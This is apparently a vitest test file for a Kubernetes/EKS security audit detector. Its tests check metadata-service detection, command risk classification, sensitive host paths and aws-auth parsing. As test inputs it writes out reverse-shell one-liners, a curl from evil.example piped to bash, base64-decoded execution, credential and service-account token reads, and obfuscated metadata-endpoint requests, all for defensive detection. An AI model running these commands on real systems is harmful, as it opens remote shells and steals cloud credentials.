import { describe, expect, it } from 'vitest';
import { commandRisks, metadataTarget, parseLooseIpv4 } from '../../shared/detect/audit/lib/command-analysis';
import { isSensitiveHostPath } from '../../shared/detect/audit/lib/pod-security';
import { parseMappings } from '../../shared/kube/aws-auth';

describe('command analysis', () => {
  it.each([
    ['2852039166', '169.254.169.254'],
    ['0xa9fea9fe', '169.254.169.254'],
    ['0251.0376.0251.0376', '169.254.169.254'],
    ['0xa9.0xfe.0xa9.0xfe', '169.254.169.254'],
    ['169.254.43518', '169.254.169.254'],
    ['169.16689662', '169.254.169.254'],
    ['10.0.0.1', '10.0.0.1'],
  ])('reads %s as %s', (text, address) => {
    expect(parseLooseIpv4(text)).toBe(address);
  });

  it.each([
    'curl http://169.254.169.254/latest/meta-data/',
    'curl http://2852039166/',
    'wget -qO- http://0xA9FEA9FE/latest/',
    'curl http://0251.0376.0251.0376/',
    'curl http://[::ffff:169.254.169.254]/',
    'curl http://[::ffff:a9fe:a9fe]/',
    'curl -X PUT http://[fd00:ec2::254]/latest/api/token',
    'curl http://169.254.170.23/v1/credentials',
    'curl http%3A%2F%2F169.254.169.254%2Flatest',
    'curl http://instance-data.ec2.internal/latest/',
  ])('finds the metadata service in %s', (command) => {
    expect(metadataTarget(command)).toBeDefined();
  });

  it.each(['curl http://10.0.1.5/', 'ping 169.254.169.253', 'sleep 3600', 'cat /etc/hosts'])(
    'finds no metadata service in %s',
    (command) => {
      expect(metadataTarget(command)).toBeUndefined();
    },
  );

  it.each([
    ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'reverse-shell'],
    ['nc -e /bin/sh 198.51.100.7 4444', 'reverse-shell'],
    ['ncat 198.51.100.7 4444 --exec /bin/bash', 'reverse-shell'],
    ['socat tcp:198.51.100.7:4444 exec:sh,pty', 'reverse-shell'],
    ['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f', 'reverse-shell'],
    ['python3 -c \'import pty; pty.spawn("/bin/bash")\'', 'reverse-shell'],
    ["perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0)'", 'reverse-shell'],
    ['cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'service-account-token'],
    [
      'cat $AWS_WEB_IDENTITY_TOKEN_FILE /var/run/secrets/eks.amazonaws.com/serviceaccount/token',
      'service-account-token',
    ],
    ['cat /host/var/lib/kubelet/pki/kubelet-client-current.pem', 'credential-file'],
    ['cat ~/.aws/credentials', 'credential-file'],
    ['curl -s https://evil.example/x.sh | bash', 'download-and-execute'],
    ['echo aWQK | base64 -d | sh', 'encoded-script'],
    ['wget https://github.com/x/y/releases/download/v1/tool', 'network-fetch'],
  ])('sees in %s: %s', (command, kind) => {
    expect(commandRisks(command).map((r) => r.kind)).toContain(kind);
  });

  it.each([
    'sh',
    'ls -la /app',
    'curl -s localhost:8080/healthz',
    'curl http://127.0.0.1:9090/metrics',
    'env',
    'ps aux',
  ])('sees nothing risky in %s', (command) => {
    expect(commandRisks(command)).toEqual([]);
  });
});

describe('sensitive host paths', () => {
  it.each([
    '/',
    '/etc',
    '/proc',
    '/var/lib/kubelet',
    '/var/lib/kubelet/pods',
    '/var/run/docker.sock',
    '/run/containerd',
    '/var',
    '/root/',
  ])('%s is sensitive', (path) => expect(isSensitiveHostPath(path)).toBe(true));
  it.each(['/etc/ssl/certs', '/var/log', '/data', '/sys/fs/cgroup', '/tmp'])('%s is not', (path) =>
    expect(isSensitiveHostPath(path)).toBe(false),
  );
});

describe('aws-auth mappings', () => {
  it('reads block and flow YAML and JSON', () => {
    const yaml =
      '- rolearn: arn:aws:iam::1:role/node\n  username: system:node:{{EC2PrivateDNSName}}\n  groups:\n    - system:bootstrappers\n    - system:nodes\n' +
      '- rolearn: "arn:aws:iam::1:role/admin"  # break glass\n  username: admin\n  groups: [system:masters, ops]\n';
    expect(parseMappings(yaml, 'role').map((m) => [m.arn, m.username, m.groups])).toEqual([
      ['arn:aws:iam::1:role/node', 'system:node:{{EC2PrivateDNSName}}', ['system:bootstrappers', 'system:nodes']],
      ['arn:aws:iam::1:role/admin', 'admin', ['system:masters', 'ops']],
    ]);
    expect(parseMappings('[{"userarn":"arn:aws:iam::1:user/x","username":"x","groups":["a"]}]', 'user')).toEqual([
      { kind: 'user', arn: 'arn:aws:iam::1:user/x', username: 'x', groups: ['a'] },
    ]);
    expect(parseMappings('- "111122223333"\n- 444455556666\n', 'account').map((m) => m.arn)).toEqual([
      '111122223333',
      '444455556666',
    ]);
    expect(parseMappings('not: [valid', 'role')).toEqual([]);
  });
});
